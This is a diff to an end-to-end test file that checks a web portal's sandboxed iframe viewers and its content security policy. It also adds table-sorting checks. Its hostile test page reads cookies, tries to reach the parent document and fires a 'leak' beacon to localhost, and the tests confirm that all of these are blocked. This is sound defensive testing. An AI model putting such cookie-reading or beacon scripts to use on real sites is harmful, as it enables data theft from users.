@@ -24,6 +24,10 @@ pytestmark = pytest.mark.e2e
 RUN = "e2e-viewers"
 
 HOSTILE_APP = b"""<!doctype html><html><body><h1 id="h">Web app output</h1><script>
+document.addEventListener("securitypolicyviolation", function (e) {
+  parent.postMessage({csp: e.violatedDirective, blocked: e.blockedURI}, "*");
+});
+fetch("http://localhost:9/beacon?leak=1").catch(function () {});
 var report = {};
 try { report.cookie = document.cookie; } catch (e) { report.cookie = "blocked:" + e.name; }
 try { parent.document.body.dataset.marker = "pwned"; report.parent = "touched"; }
@@ -36,6 +40,10 @@ document.getElementById("h").textContent = "Web app output (script ran)";
 
 CAPTURE = """
 window.__frameReports = [];
+window.__cspViolations = [];
+document.addEventListener("securitypolicyviolation", function (e) {
+  window.__cspViolations.push(e.violatedDirective + " " + e.blockedURI);
+});
 addEventListener("message", function (e) { window.__frameReports.push({origin: e.origin, data: e.data}); });
 document.addEventListener("DOMContentLoaded", function () { document.body.dataset.marker = "untouched"; });
 """
@@ -46,8 +54,11 @@ def put(minio, bucket, key, data: bytes, content_type="application/octet-stream"
 
 
 @pytest.fixture
-def portal(transactional_db, webapp_origin):
-    """The portal (daphne) pointing its web-app iframes at a web-app origin on another host name."""
+def portal(transactional_db, webapp_origin, celery_worker_process):
+    """The portal (daphne) pointing its web-app iframes at a web-app origin on another host name,
+    queueing its tasks (table sorts) to this test's worker."""
+    from django.conf import settings
+
     from tests.conftest import test_database_url
 
     app = webapp_origin()
@@ -56,6 +67,7 @@ def portal(transactional_db, webapp_origin):
                     RESULTS / "daphne-viewers.log")
     # "localhost" vs the portal's 127.0.0.1: another site, so no portal cookie ever goes there.
     server.env["WEBAPP_ORIGIN"] = f"http://localhost:{app.port}"
+    server.env["RENDER_QUEUE"] = settings.RENDER_QUEUE
     server.start()
     yield server
     server.stop()
@@ -135,6 +147,12 @@ def check_every_viewer(minio, live_bucket, portal, browser_page, django_user_mod
     page.wait_for_function("(el) => el.textContent.startsWith('Rows 51')",
                            arg=table.locator(".row-range").element_handle())
     assert table.locator("tbody tr").first.inner_text().startswith("50\t")
+    # sorting: the worker builds the sorted copy while the page asks again (202), then shows it
+    table.locator('th[data-col="2"]').click()  # score, ascending
+    table.locator('th[data-col="2"]').click()  # descending
+    page.wait_for_function("(tbody) => tbody.rows.length && tbody.rows[0].cells[0].textContent === '499'",
+                           arg=table.locator("tbody").element_handle(), timeout=30_000)
+    assert table.locator(".row-range").inner_text() == "Rows 1–50"
 
     # the six KFP metadata outputs
     cm = page.locator(".cm-viewer")
@@ -171,8 +189,13 @@ def check_every_viewer(minio, live_bucket, portal, browser_page, django_user_mod
         assert frames.nth(i).get_attribute("src").startswith("http://localhost:")
     page.frame_locator(f"#artifact-{Artifact.objects.get(key=f'{RUN}/report/app.html').pk} iframe.webapp") \
         .locator("h1", has_text="script ran").wait_for()
-    reports = wait_for(lambda: page.evaluate("window.__frameReports"), what="the frame's report")
+    reports = wait_for(lambda: [r for r in page.evaluate("window.__frameReports") if "cookie" in r["data"]],
+                       what="the frame's report")
     report = reports[0]
+    # The frame's beacon was blocked by the web-app origin's CSP (connect-src 'none').
+    blocked = wait_for(lambda: [r["data"] for r in page.evaluate("window.__frameReports") if "csp" in r["data"]],
+                       what="the frame's CSP violation report")
+    assert blocked[0]["csp"] == "connect-src" and "localhost:9" in blocked[0]["blocked"]
     assert report["origin"] == "null" and report["data"]["origin"] == "null"  # opaque origin
     assert report["data"]["cookie"].startswith("blocked:") and report["data"]["parent"].startswith("blocked:")
     assert page.evaluate("document.body.dataset.marker") == "untouched"
@@ -180,6 +203,8 @@ def check_every_viewer(minio, live_bucket, portal, browser_page, django_user_mod
 
     meta_pk = Artifact.objects.get(key=f"{RUN}/evaluate/mlpipeline-ui-metadata.tgz").pk
     page.frame_locator(f"#artifact-{meta_pk} iframe.webapp").locator("h1", has_text="Hello, World!").wait_for()
+    # Everything above worked under the portal's strict CSP, which the page never violated.
+    assert page.evaluate("window.__cspViolations") == []
     screenshot(page, "viewers-every-kind")
     # Out-of-process frames can come out blank in a full-page capture; one of the frame itself.
     frames.last.scroll_into_view_if_needed()
